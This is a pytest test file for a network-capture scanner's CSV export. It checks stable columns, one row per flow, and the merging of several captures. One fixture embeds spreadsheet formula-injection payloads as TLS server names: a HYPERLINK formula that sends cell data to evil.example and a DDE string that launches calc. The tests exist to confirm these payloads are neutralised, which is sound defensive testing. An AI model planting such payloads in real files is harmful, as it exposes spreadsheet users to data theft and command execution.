"""--format csv and Report.flows_records() (issue 16 part 4): one row per flow, stable
columns, every cell inert for a spreadsheet; several captures in one file."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from capfiles import ether, pcap
from conftest import real_capture
from scapy.layers.inet import IP, TCP
from scapy.layers.tls.extensions import ServerName, TLS_Ext_ServerName
from scapy.layers.tls.handshake import TLSClientHello
from scapy.layers.tls.record import TLS

import flowscan
from flowscan.report import csv as csv_report
from flowscan.report.rows import COLUMNS

LAB = Path(__file__).resolve().parent.parent / "captures" / "lab"
# A name a spreadsheet would run: a formula, and one starting with each other trigger.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def run(*args: str) -> tuple[int, str, str]:
    """Exit code, standard output as written (CRLF line ends kept), standard error."""
    proc = subprocess.run([sys.executable, "-m", "flowscan", *args], capture_output=True,
                          timeout=300)
    return proc.returncode, proc.stdout.decode("utf-8"), proc.stderr.decode("utf-8")


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """TLS handshakes whose SNI are spreadsheet formulas, one per name."""
    pkts = []
    for n, sni in enumerate(HOSTILE):
        hello = TLSClientHello(version=0x0303, ciphers=[0x1301], ext=[
            TLS_Ext_ServerName(servernames=[ServerName(servername=sni.encode())])])
        c, s = ("192.0.2.1", 40000 + n), ("203.0.113.10", 443)
        for (src, sport), (dst, dport), flags, seq, ack, payload in [
                (c, s, "S", 1000, 0, b""), (s, c, "SA", 5000, 1001, b""),
                (c, s, "A", 1001, 5001, b""),
                (c, s, "PA", 1001, 5001, bytes(TLS(version=0x0301, msg=[hello])))]:
            pkts.append(bytes(ether() / IP(src=src, dst=dst) / TCP(
                sport=sport, dport=dport, flags=flags, seq=seq, ack=ack) / payload))
    path = tmp_path_factory.mktemp("csv") / "=cmd.pcap"  # the capture's name too
    path.write_bytes(pcap([(1.0 + i / 100, p) for i, p in enumerate(pkts)]))
    return path


def test_formulas_from_the_capture_are_neutralised(hostile: Path) -> None:
    code, stdout, stderr = run("scan", str(hostile), "--format", "csv")
    assert code == 0, stderr
    table = rows(stdout)
    names = sorted(r["name"] for r in table if r["name"])
    assert names == sorted("'" + h for h in HOSTILE)  # kept whole, started with a quote
    for row in table:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert row["capture"].startswith(str(hostile.parent)) or row["capture"].startswith("'")
    # The JSON and the records keep the names exactly as the capture gave them.
    records = flowscan.scan(str(hostile)).flows_records()
    assert sorted(r["name"] for r in records if r["name"]) == sorted(HOSTILE)


def test_one_row_per_flow_in_stable_columns() -> None:
    path = str(LAB / "sip-rtp-plain" / "capture.pcapng")
    code, stdout, stderr = run("scan", path, "--format", "csv", "--home", "EU")
    assert code == 0, stderr
    assert stdout.splitlines()[0] == ",".join(COLUMNS)
    assert stdout.endswith("\r\n") and stdout.count("\n") == stdout.count("\r\n")
    table = rows(stdout)
    report = flowscan.scan(path, home="EU")
    assert [int(r["id"]) for r in table] == sorted(f.id for f in report.flows)
    by_id = {int(r["id"]): r for r in table}
    media = [f for f in report.flows if f.encryption]
    assert media
    for flow in media:
        row = by_id[flow.id]
        assert flow.encryption is not None and flow.remote is not None
        assert (row["verdict"], row["termination"], row["basis"], row["kind"]) == (
            flow.encryption.verdict, flow.encryption.termination, flow.encryption.basis,
            "media")
        assert row["remote_country"] == (flow.remote.country or "")
        assert row["asn"] == (str(flow.remote.asn) if flow.remote.asn else "")
        assert row["foreign"] in ("true", "false") and row["home"] == "EU"
        assert int(row["bytes"]) == flow.bytes
    assert stdout == run("scan", path, "--format", "csv", "--home", "EU")[1]


def test_several_captures_make_one_csv(tmp_path: Path) -> None:
    a, b = str(LAB / "sip-rtp-plain" / "capture.pcapng"), str(LAB / "p2p-webrtc" /
                                                              "capture.pcapng")
    out = tmp_path / "flows.csv"
    assert run("scan", a, b, "-o", str(out))[0] == 0
    written = out.read_bytes().decode("utf-8")
    table = rows(written)
    assert written.count(",".join(COLUMNS)) == 1
    shas = {flowscan.scan(p).capture.sha256: p for p in (a, b)}
    assert {r["sha256"] for r in table} == set(shas)
    assert {r["capture"] for r in table} == {a, b}


def test_records_are_flat_typed_and_data_frame_ready() -> None:
    report = flowscan.scan(str(real_capture("zoom.pcap")), home="EU")
    records = report.flows_records()
    assert len(records) == len(report.flows)
    for record in records:
        assert tuple(record) == COLUMNS  # the same columns, the same order, every row
        assert all(v is None or isinstance(v, str | int | float | bool)
                   for v in record.values())
    flow34 = next(r for r in records if r["id"] == 34)
    assert (flow34["verdict"], flow34["remote_country"], flow34["registered_country"],
            flow34["asn"], flow34["foreign"]) == ("hop-by-hop", "DE", "US", 31898, False)
    assert isinstance(flow34["duration_s"], float) and isinstance(flow34["bytes"], int)
    # The CSV holds the same values as text.
    table = rows(csv_report.dumps([report]))
    assert [r["id"] for r in table] == [str(r["id"]) for r in records]


def test_pandas_reads_the_records() -> None:
    pd = pytest.importorskip("pandas", reason="pandas is optional; the records' shape is "
                                              "tested without it above")
    report = flowscan.scan(str(LAB / "sip-rtp-plain" / "capture.pcapng"))
    frame = pd.DataFrame(report.flows_records())
    assert list(frame.columns) == list(COLUMNS) and len(frame) == len(report.flows)
